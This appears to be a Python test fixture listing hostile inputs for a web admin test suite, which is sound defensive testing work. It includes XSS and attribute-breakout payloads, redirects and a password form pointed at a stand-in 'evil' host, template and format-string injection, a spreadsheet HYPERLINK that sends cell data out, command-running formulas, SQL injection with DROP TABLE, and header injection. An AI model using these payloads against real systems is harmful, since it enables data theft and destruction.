"""Words that something would run, follow or reckon with, if they stood anywhere as they are."""

from __future__ import annotations

from tests.webadmin.hostile.inert import EVIL

WORDS = {
    "a script": f"<script src=//{EVIL}/x></script>",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a drawing that loads": "<svg/onload=alert(1)>",
    "an end of an attribute": '" autofocus onfocus=alert(1) x="',
    "an end of a quoted attribute": "' onmouseover='alert(1)",
    "an attribute without quotes": "x onclick=alert(1)",
    "an end of the title": "</title><script>alert(1)</script>",
    "an end of a text field": "</textarea><script>alert(1)</script>",
    "an end of a style sheet": "</style><style>@import '//evil.example/x'</style>",
    "a style": '<p style="background:url(//evil.example/x)">',
    "a script for an address": "javascript:alert(document.domain)",
    "a page for an address": "data:text/html,<script>alert(1)</script>",
    "another host": f"//{EVIL}/x",
    "another host, backwards": f"/\\{EVIL}",
    "another page in a frame": f"<iframe srcdoc='<script>alert(1)</script>' src=//{EVIL}>",
    "another base": f"<base href=//{EVIL}/>",
    "a form of theirs": f"<form action=//{EVIL}><input name=password>",
    "a page that moves on": f'<meta http-equiv=refresh content="0;url=//{EVIL}">',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "a comment": "<!--><img src=x onerror=alert(1)>-->",
    "a template": "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "a format": "%s%s%n{0.__class__}{config}",
    "a formula": "=cmd|'/c calc'!A1",
    "a link in a formula": f'=HYPERLINK("http://{EVIL}/?"&A1,"x")',
    "a sum": "@SUM(1+1)*cmd|'/c calc'!A0",
    "a sum with a sign": "+1+cmd|'/c calc'!A0",
    "a wide formula": "＝1+1",
    "SQL": "' OR 1=1; DROP TABLE person;--",
    "new lines": "x\r\nSet-Cookie: bellgate=theirs\r\n\r\n<b>",
    "letters from right to left": "gro.elpmaxe\u202e.live",
    "separators of lines": "x\u2028alert(1)\u2029\x85y",
    "control letters": "x\x1b[2J\x07\x08\x00y",
    "half a letter": "x\udcffy",
    "a very long word": "x" * 6_000,
}
